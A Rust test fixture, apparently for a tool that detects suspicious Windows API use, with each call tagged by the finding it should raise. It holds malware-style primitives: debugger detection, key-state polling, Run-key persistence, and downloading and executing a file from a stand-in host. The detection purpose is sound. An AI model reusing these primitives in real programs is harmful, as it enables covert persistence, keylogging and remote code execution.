//! dependency: windows = { version = "0.62.2", features = ["Win32_System_Com_Urlmon", "Win32_System_Diagnostics_Debug", "Win32_System_LibraryLoader", "Win32_System_Registry", "Win32_System_SystemInformation", "Win32_System_Threading", "Win32_UI_Input_KeyboardAndMouse"] }
// Windows only: names were checked against the source, not compiled.
use windows::Win32::System::SystemInformation::SetSystemTime;
use windows::Win32::System::Diagnostics::Debug::IsDebuggerPresent;

pub unsafe fn set(time: *const windows::Win32::Foundation::SYSTEMTIME) {
    let _ = SetSystemTime(time); //~ clock.set clock
}

pub unsafe fn watched() -> bool {
    IsDebuggerPresent().as_bool() //~ guard.debugger debugger
}

pub unsafe fn keys() -> i16 {
    windows::Win32::UI::Input::KeyboardAndMouse::GetAsyncKeyState(1) //~ input.capture keys
}

pub unsafe fn keep() -> bool {
    use windows::core::w;
    use windows::Win32::System::Registry::{RegSetKeyValueW, HKEY_CURRENT_USER, REG_SZ};
    let run = w!("Software\\Microsoft\\Windows\\CurrentVersion\\Run");
    RegSetKeyValueW(HKEY_CURRENT_USER, run, w!("app"), REG_SZ.0, None, 0).is_ok() //~ file.write Software\Microsoft\Windows\CurrentVersion\Run
}

pub unsafe fn fetched() -> windows::core::Result<()> {
    use windows::core::{s, w};
    use windows::Win32::System::{Com::Urlmon::URLDownloadToFileW, Threading::WinExec};
    URLDownloadToFileW(None, w!("http://files.invalid/x"), w!("C:\\Temp\\x.exe"), 0, None)?; //~ net.connect http://files.invalid/x; file.write C:\Temp\x.exe
    WinExec(s!("C:\\Temp\\x.exe"), 0); //~ process.shell C:\Temp\x.exe
    Ok(())
}
